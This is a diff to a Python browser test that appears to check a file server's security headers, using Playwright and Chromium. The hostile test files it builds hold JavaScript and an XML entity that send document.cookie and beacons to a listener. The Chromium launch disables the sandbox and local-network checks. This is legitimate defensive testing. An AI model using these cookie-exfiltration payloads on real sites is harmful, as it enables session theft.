@@ -1,8 +1,8 @@
 """Hostile files in a real browser: what the server hands out asks nobody for anything, and reads no cookie.
 
-Each file tries all that its format can to reach a listener on another port and to take the cookie that lies on the server's
-origin. It is opened at both of its addresses, by itself and embedded in a page of that origin; as it is served, and
-once more as if `Content-Disposition` had got lost, so that the browser shows it and the other headers have to hold. A
+Each file tries all that its format can to reach a listener on another port and to take the cookie that lies on the
+server's origin. It is opened at both of its addresses, by itself and embedded in a page of that origin; as it is served,
+and once more as if `Content-Disposition` had got lost, so that the browser shows it and the other headers have to hold. A
 control shows that the same files do reach the listener, cookie and all, where none of the headers is there.
 """
 
@@ -85,7 +85,7 @@ def _script(url: str) -> str:
     return (
         f"try{{new Image().src='{url}/script?'+encodeURIComponent(document.cookie)}}"
         f"catch(e){{new Image().src='{url}/denied'}}fetch('{url}/fetch');"
-        f"navigator.sendBeacon('{url}/beacon');location='{url}/gone'"
+        f"navigator.sendBeacon('{url}/beacon');setTimeout(function(){{location='{url}/gone'}},500)"
     )
 
 
@@ -125,7 +125,7 @@ def _xhtml(url: str) -> bytes:
 
 def _xml(url: str) -> bytes:
     return (
-        f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{url}/xsl"?>'
+        f'<?xml version="1.0"?><?xml-stylesheet type="text/css" href="{url}/css"?>'
         f'<!DOCTYPE r [<!ENTITY x SYSTEM "{url}/entity">]><r><h:script xmlns:h="http://www.w3.org/1999/xhtml">'
         f'{_script(url)}</h:script><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="{url}/img"/></r>'
     ).encode()
@@ -224,10 +224,15 @@ def _addresses(url: str, owner: Person, item: ItemId) -> list[str]:
     return [f"{url}/api/v1/items/{item}/content", str(answer.json()["signedUrl"])]
 
 
+# Chromium as root needs the first. The last lets pages ask loopback addresses: else it, and not our headers, would stop
+# what the tests look for.
+_FLAGS = ["--no-sandbox", "--disable-dev-shm-usage", "--disable-features=LocalNetworkAccessChecks"]
+
+
 @pytest.fixture(scope="module")
 def browser() -> Iterator[Browser]:
     with sync_playwright() as playwright:
-        found = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-dev-shm-usage"])
+        found = playwright.chromium.launch(executable_path=CHROMIUM, args=_FLAGS)
         yield found
         found.close()
 
@@ -297,7 +302,8 @@ def _visit(browser: Browser, den: Den, name: str, without: set[str]) -> None:
         for address in den.addresses[name]:
             page = context.new_page()
             _open(page, address)
-            assert COOKIE not in _cookies_seen(page)
+            if FILES[name].is_active:  # In the frame of Chromium's viewer of PDFs stands a page of Chromium's own.
+                assert COOKIE not in _cookies_seen(page)
             page.close()
         page = context.new_page()
         _embed(page, den, den.addresses[name])
